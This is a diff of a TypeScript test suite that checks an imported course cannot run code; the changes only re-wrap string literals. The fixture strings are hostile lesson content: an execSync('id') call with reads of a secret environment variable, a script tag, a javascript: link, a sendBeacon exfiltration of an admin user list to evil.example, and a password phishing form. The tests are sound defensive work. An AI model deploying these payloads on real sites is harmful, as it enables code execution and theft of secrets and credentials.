@@ -80,7 +80,9 @@ describe('an imported course cannot run code', () => {
     const lesson = original.files.find((f) => f.path.endsWith('.en.mdx'))!;
     const text = Buffer.from(lesson.content, lesson.encoding).toString('utf8');
     const end = text.indexOf('\n---', 3) + 4;
-    const body = `\nimport { execSync } from 'node:child_process'\n\nBuilt by {execSync('id').toString()} with {process.env.OQU_SECRET}.\n\n<Callout title={process.env.HOME}>x</Callout>\n`;
+    const body =
+      `\nimport { execSync } from 'node:child_process'\n\nBuilt by {execSync('id').toString()} with ` +
+      `{process.env.OQU_SECRET}.\n\n<Callout title={process.env.HOME}>x</Callout>\n`;
     const hostile = text.slice(0, end) + body + text.slice(end);
     const line = (needle: string) => hostile.slice(0, hostile.indexOf(needle)).split('\n').length;
     const { message, left } = await refusedImport(tampered({ [lesson.path]: Buffer.from(hostile) }));
@@ -99,7 +101,9 @@ describe('an imported course cannot run code', () => {
     const text = Buffer.from(lesson.content, lesson.encoding)
       .toString('utf8')
       .replace(/^---\n/, '---\nlayout: ../../../src/cli/keys.ts\n');
-    const hostile = `${text}\n<script src="/course-assets/urbanism/evil.js"></script>\n\n<Steal {...props} />\n\n[sign in](javascript:fetch('/x'))\n`;
+    const hostile =
+      `${text}\n<script src="/course-assets/urbanism/evil.js"></script>\n\n<Steal {...props} ` +
+      `/>\n\n[sign in](javascript:fetch('/x'))\n`;
     const { message, left } = await refusedImport(tampered({ [lesson.path]: Buffer.from(hostile) }));
     expect(message).toMatch(/front matter field "layout"/);
     expect(message).toMatch(/element <script>: not a lesson component/);
@@ -112,7 +116,8 @@ describe('an imported course cannot run code', () => {
     const { message, left } = await refusedImport(
       tampered({
         'assets/evil.js': Buffer.from(
-          "fetch('/en/admin/users').then((r) => r.text()).then(navigator.sendBeacon.bind(navigator, 'https://evil.example'))",
+          "fetch('/en/admin/users').then((r) => r.text()).then(navigator.sendBeacon.bind(navigator, " +
+            "'https://evil.example'))",
         ),
         'assets/phish.html': Buffer.from(
           '<!doctype html><form action="https://evil.example"><input name="password"></form>',
